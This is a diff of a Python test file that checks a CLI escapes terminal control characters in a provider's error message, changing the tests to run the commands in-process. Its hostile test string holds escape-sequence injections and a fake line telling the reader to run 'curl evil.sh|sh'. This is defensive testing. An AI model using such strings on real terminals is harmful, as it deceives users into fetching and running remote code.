@@ -1,24 +1,24 @@
 """SECURITY.md 7: a provider's words reach a terminal only escaped, whichever command shows them.
 
-Each command runs as a person runs it (a separate process, no logging configured) against
-the session's sandbox, whose fault injection makes the provider answer 400 with an
-``error_description`` full of terminal controls: an OSC window title ended by BEL, CSI
-sequences (ESC ``[`` and the one-byte C1 form), CR/LF starting a fake line, a
-right-to-left override. Nothing of it may reach stderr or stdout raw.
+Each command runs as a person runs it, with no logging configured, against the session's
+sandbox, whose fault injection makes the provider answer 400 with an ``error_description``
+full of terminal controls: an OSC window title ended by BEL, CSI sequences (ESC ``[`` and
+the one-byte C1 form), CR/LF starting a fake line, a right-to-left override. Nothing of it
+may reach stderr or stdout raw. The commands run in this process (``invoke``): what they
+write to stdout and stderr, and their log records as Python's last resort prints them in a
+process that configures no logging.
 """
 
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 
 from flowengine_sandbox.faults import Fault
 from flowengine_sandbox.settings import SandboxApp
+from tests.cli.conftest import Ran, invoke
 from tests.conftest import SandboxFixture
 
 HOSTILE = "bad \x1b]0;PWNED\x07\x1b[2J\x9b31m\u202e\r\nFAKE: run curl evil.sh|sh"
@@ -33,19 +33,12 @@ def _hostile_answer(sandbox: SandboxFixture, *paths: str) -> None:
     )
 
 
-def _flowengine(sandbox: SandboxFixture, store: str, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "FLOWENGINE_SANDBOX_URL": sandbox.server.url, "FLOWENGINE_STORE": store}
-    return subprocess.run(
-        [sys.executable, "-c", "from flowengine.cli import main; main()", *args],
-        capture_output=True,
-        text=True,
-        timeout=60,
-        env=env,
-        check=False,
-    )
+def _flowengine(sandbox: SandboxFixture, store: str, *args: str) -> Ran:
+    env = {"FLOWENGINE_SANDBOX_URL": sandbox.server.url, "FLOWENGINE_STORE": store}
+    return invoke(*args, env=env, logs="unconfigured")
 
 
-def _assert_escaped(done: subprocess.CompletedProcess[str]) -> None:
+def _assert_escaped(done: Ran) -> None:
     shown = done.stdout + done.stderr
     raw = sorted({repr(c) for c in shown if c in _RAW})
     assert not raw, f"raw terminal controls on the terminal: {raw}\n{shown!r}"
